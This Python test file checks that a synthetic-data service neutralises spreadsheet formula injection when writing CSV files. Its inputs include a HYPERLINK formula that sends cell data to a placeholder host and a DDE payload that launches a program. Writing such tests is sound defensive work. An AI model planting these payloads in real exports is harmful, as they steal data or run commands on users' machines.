"""Synthetic rows as files: what a spreadsheet would run is a text there."""

import csv
import io

from privest_service.datasets.dummy_files import dummy_file
from privest_service.datasets.table_schema import TableSchema


def test_nothing_in_a_csv_file_is_a_formula() -> None:
    link = '=HYPERLINK("http://example.org?"&A2)'
    columns = [
        {"name": link, "type": "number", "low": -1, "high": 1},
        {
            "name": "kind",
            "type": "category",
            "categories": ["@SUM(A1)", "+cmd|' /C calc'!A0", "-2", "-", "a"],
        },
    ]
    shape = TableSchema.model_validate({"kind": "table", "columns": columns}).shape(100)
    names, *rows = csv.reader(io.StringIO(dummy_file(shape, 100, "text/csv").decode()))
    assert names == [f"'{link}", "kind"]
    assert {kind for _, kind in rows} == {"'@SUM(A1)", "'+cmd|' /C calc'!A0", "-2", "-", "a"}
    assert any(number.startswith("-") for number, _ in rows)  # which stay numbers
